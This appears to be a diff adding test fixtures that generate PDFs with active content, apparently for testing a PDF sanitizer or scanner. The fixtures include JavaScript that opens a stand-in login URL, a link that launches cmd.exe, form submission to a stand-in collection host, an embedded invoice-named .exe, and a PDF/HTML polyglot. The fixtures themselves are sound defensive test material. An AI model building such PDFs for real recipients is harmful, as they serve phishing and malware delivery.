@@ -18,7 +18,28 @@ import java.util.TimeZone;
 import java.util.zip.Deflater;
 import org.apache.pdfbox.Loader;
 import org.apache.pdfbox.pdmodel.PDDocument;
+import org.apache.pdfbox.cos.COSName;
+import org.apache.pdfbox.cos.COSString;
+import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
+import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
+import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
 import org.apache.pdfbox.pdmodel.PDPage;
+import org.apache.pdfbox.pdmodel.common.PDRectangle;
+import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
+import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
+import org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification;
+import org.apache.pdfbox.pdmodel.interactive.action.PDAction;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionSubmitForm;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
+import org.apache.pdfbox.pdmodel.interactive.action.PDFormFieldAdditionalActions;
+import org.apache.pdfbox.pdmodel.interactive.action.PDPageAdditionalActions;
+import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationFileAttachment;
+import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
+import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationWidget;
+import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
+import org.apache.pdfbox.pdmodel.interactive.form.PDTextField;
 import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
 import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
 import org.apache.pdfbox.pdmodel.interactive.digitalsignature.PDSignature;
@@ -181,6 +202,137 @@ public final class TestPdfs {
     String xref = "xref\n0 2\n0000000000 65535 f \n0000000009 00000 n \ntrailer\n<< /Size 2 /Root 1 0 R >>\nstartxref\n"
         + body.length() + "\n%%EOF\n";
     return (body + xref).getBytes(StandardCharsets.ISO_8859_1);
+  }
+
+  /** A one-page PDF that runs JavaScript when opened: the catalog's /OpenAction. */
+  public static byte[] javaScriptOnOpen() {
+    return plainWith(document -> document.getDocumentCatalog().setOpenAction(javaScript()));
+  }
+
+  /** A one-page PDF whose page runs JavaScript when it is shown: the page's /AA /O. */
+  public static byte[] javaScriptOnPageOpen() {
+    return plainWith(document -> {
+      PDPageAdditionalActions actions = new PDPageAdditionalActions();
+      actions.setO(javaScript());
+      document.getPage(0).setActions(actions);
+    });
+  }
+
+  /** A one-page PDF with document-level JavaScript: the /Names /JavaScript tree. */
+  public static byte[] javaScriptInTheNamesTree() {
+    return plainWith(document -> {
+      PDJavascriptNameTreeNode scripts = new PDJavascriptNameTreeNode();
+      scripts.setNames(java.util.Map.of("mo-tep", javaScript()));
+      PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
+      names.setJavascript(scripts);
+      document.getDocumentCatalog().setNames(names);
+    });
+  }
+
+  /** A one-page PDF with a link that launches a program on the reader's computer (/Launch). */
+  public static byte[] launchLink() {
+    return plainWith(document -> {
+      PDActionLaunch launch = new PDActionLaunch();
+      launch.setFile(new PDSimpleFileSpecification(new COSString("cmd.exe")));
+      link(document, launch);
+    });
+  }
+
+  /** A one-page PDF with a hyperlink to a web address (/URI). */
+  public static byte[] uriLink() {
+    return plainWith(document -> {
+      PDActionURI uri = new PDActionURI();
+      uri.setURI("https://dangnhap-thanhuy.example/");
+      link(document, uri);
+    });
+  }
+
+  /** A one-page PDF with a link that sends form data to a web address (/SubmitForm). */
+  public static byte[] submitFormLink() {
+    return plainWith(document -> {
+      PDActionSubmitForm submit = new PDActionSubmitForm();
+      submit.setFile(new PDSimpleFileSpecification(new COSString("https://thu-thap.example/nhan")));
+      link(document, submit);
+    });
+  }
+
+  /** A one-page PDF carrying another file in its /Names /EmbeddedFiles tree. */
+  public static byte[] embeddedFile() {
+    return plainWith(document -> {
+      PDComplexFileSpecification file = new PDComplexFileSpecification();
+      file.setFile("hoa-don.exe");
+      file.setEmbeddedFile(new PDEmbeddedFile(document,
+          new java.io.ByteArrayInputStream("MZ không phải văn bản".getBytes(StandardCharsets.UTF_8))));
+      PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
+      files.setNames(java.util.Map.of("hoa-don.exe", file));
+      PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
+      names.setEmbeddedFiles(files);
+      document.getDocumentCatalog().setNames(names);
+    });
+  }
+
+  /** A one-page PDF with a file attachment annotation on its page (/FileAttachment), the file not embedded. */
+  public static byte[] fileAttachmentAnnotation() {
+    return plainWith(document -> {
+      PDAnnotationFileAttachment attachment = new PDAnnotationFileAttachment();
+      attachment.setRectangle(new PDRectangle(50, 700, 20, 20));
+      attachment.setFile(new PDSimpleFileSpecification(new COSString("phu-luc.docx")));
+      document.getPage(0).getAnnotations().add(attachment);
+    });
+  }
+
+  /** A one-page PDF with a form field whose value change runs JavaScript (the field's /AA /K). */
+  public static byte[] javaScriptOnAFormField() {
+    return plainWith(document -> {
+      PDAcroForm form = new PDAcroForm(document);
+      document.getDocumentCatalog().setAcroForm(form);
+      PDTextField field = new PDTextField(form);
+      field.setPartialName("so_van_ban");
+      PDFormFieldAdditionalActions actions = new PDFormFieldAdditionalActions();
+      actions.setK(javaScript());
+      field.getCOSObject().setItem(COSName.AA, actions.getCOSObject());
+      PDAnnotationWidget widget = field.getWidgets().get(0);
+      widget.setRectangle(new PDRectangle(50, 650, 200, 20));
+      widget.setPage(document.getPage(0));
+      document.getPage(0).getAnnotations().add(widget);
+      form.getFields().add(field);
+    });
+  }
+
+  /** The plain PDF followed, after its %%EOF, by an HTML page (a polyglot a browser would render). */
+  public static byte[] followedByHtml() {
+    byte[] pdf = plain();
+    byte[] html = "<html><body><script>window.__xss = 1</script>Đăng nhập lại</body></html>\n"
+        .getBytes(StandardCharsets.UTF_8);
+    byte[] both = java.util.Arrays.copyOf(pdf, pdf.length + html.length);
+    System.arraycopy(html, 0, both, pdf.length, html.length);
+    return both;
+  }
+
+  private static PDActionJavaScript javaScript() {
+    return new PDActionJavaScript("app.launchURL('https://dangnhap-thanhuy.example/', true);");
+  }
+
+  private static void link(PDDocument document, PDAction action) throws IOException {
+    PDAnnotationLink link = new PDAnnotationLink();
+    link.setRectangle(new PDRectangle(50, 700, 200, 20));
+    link.setAction(action);
+    document.getPage(0).getAnnotations().add(link);
+  }
+
+  /** Something done to a new one-page document before it is saved. */
+  private interface Change {
+    void apply(PDDocument document) throws IOException;
+  }
+
+  private static byte[] plainWith(Change change) {
+    try (PDDocument document = new PDDocument()) {
+      document.addPage(new PDPage());
+      change.apply(document);
+      return save(document);
+    } catch (IOException e) {
+      throw new UncheckedIOException(e);
+    }
   }
 
   private static byte[] save(PDDocument document) throws IOException {
